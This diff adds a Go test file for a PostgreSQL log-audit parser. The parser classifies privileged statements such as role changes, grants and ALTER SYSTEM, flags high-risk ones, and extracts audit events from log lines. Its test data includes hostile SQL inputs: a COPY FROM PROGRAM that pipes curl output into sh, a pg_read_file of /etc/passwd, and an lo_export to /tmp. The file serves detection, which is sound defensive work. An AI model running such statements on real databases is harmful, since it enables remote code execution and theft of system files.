@@ -0,0 +1,91 @@
+package parselog
+
+import (
+	"testing"
+	"time"
+
+	"github.com/klouddb/klouddbshield/model"
+	"github.com/klouddb/klouddbshield/pkg/config"
+)
+
+func TestMatchAuditStatement(t *testing.T) {
+	tests := []struct {
+		statement string
+		action    string
+		highRisk  bool
+		masked    string
+	}{
+		{statement: "create  role report login", action: "CREATE ROLE"},
+		{statement: "ALTER USER app WITH PASSWORD 'secret'", action: "ALTER USER", masked: "ALTER USER app WITH PASSWORD '***'"},
+		{statement: "grant select on all tables in schema public to report", action: "GRANT"},
+		{statement: "ALTER SYSTEM SET log_statement = 'none'", action: "ALTER SYSTEM", highRisk: true},
+		{statement: "CREATE EXTENSION IF NOT EXISTS dblink", action: "CREATE EXTENSION"},
+		{statement: "CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS 'select 1'", action: "SECURITY DEFINER"},
+		{statement: "COPY t FROM PROGRAM 'curl http://x | sh'", action: "COPY PROGRAM", highRisk: true},
+		{statement: "SELECT lo_export(16384, '/tmp/x')", action: "lo_export", highRisk: true},
+		{statement: "select pg_read_file('/etc/passwd')", action: "pg_read_file", highRisk: true},
+		{statement: "BEGIN; SET LOCAL ROLE admin", action: "SET LOCAL ROLE"},
+		{statement: "SELECT set_user('postgres')", action: "set_user"},
+		{statement: "SELECT * FROM grants"},
+		{statement: "COPY t TO STDOUT"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.statement, func(t *testing.T) {
+			got, ok := MatchAuditStatement(tt.statement)
+			if ok != (tt.action != "") {
+				t.Fatalf("MatchAuditStatement() ok = %v, want action %q", ok, tt.action)
+			}
+			if !ok {
+				return
+			}
+
+			if got.Action != tt.action || got.HighRisk != tt.highRisk {
+				t.Errorf("MatchAuditStatement() = %q high risk %v, want %q high risk %v", got.Action, got.HighRisk, tt.action, tt.highRisk)
+			}
+			if tt.masked != "" && got.Statement != tt.masked {
+				t.Errorf("MatchAuditStatement() statement = %q, want %q", got.Statement, tt.masked)
+			}
+		})
+	}
+}
+
+func TestPrivilegedAuditParser(t *testing.T) {
+	prefix := "%m [%p] %u@%d %h "
+	p := NewPrivilegedAuditParser(&config.LogParser{PgSettings: &model.PgSettings{LogLinePrefix: prefix}})
+	base := GetDynamicBaseParser(prefix)
+
+	lines := []string{
+		`2024-01-02 03:04:09.000 UTC [2] bob@db2 10.0.0.2 LOG:  duration: 0.120 ms  statement: GRANT pg_read_server_files TO bob`,
+		`2024-01-02 03:04:05.000 UTC [1] app@db1 10.0.0.1 LOG:  statement: DROP ROLE olduser`,
+		`2024-01-02 03:04:06.000 UTC [1] app@db1 10.0.0.1 LOG:  statement: SELECT 1`,
+		`2024-01-02 03:04:07.000 UTC [1] app@db1 10.0.0.1 LOG:  checkpoint starting: time`,
+	}
+	for _, line := range lines {
+		d, err := base.Parse(line)
+		if err != nil {
+			t.Fatalf("Parse(%q) error = %v", line, err)
+		}
+		if err := p.Feed(d); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	want := []AuditEvent{
+		{Time: time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC), User: "app", Database: "db1", Host: "10.0.0.1", Action: "DROP ROLE", Statement: "DROP ROLE olduser"},
+		{Time: time.Date(2024, 1, 2, 3, 4, 9, 0, time.UTC), User: "bob", Database: "db2", Host: "10.0.0.2", Action: "GRANT", Statement: "GRANT pg_read_server_files TO bob"},
+	}
+	got := p.GetAuditEvents()
+	if len(got) != len(want) {
+		t.Fatalf("GetAuditEvents() = %+v, want %+v", got, want)
+	}
+	for i := range want {
+		if !got[i].Time.Equal(want[i].Time) {
+			t.Errorf("event %d time = %v, want %v", i, got[i].Time, want[i].Time)
+		}
+		got[i].Time = want[i].Time
+		if got[i] != want[i] {
+			t.Errorf("event %d = %+v, want %+v", i, got[i], want[i])
+		}
+	}
+}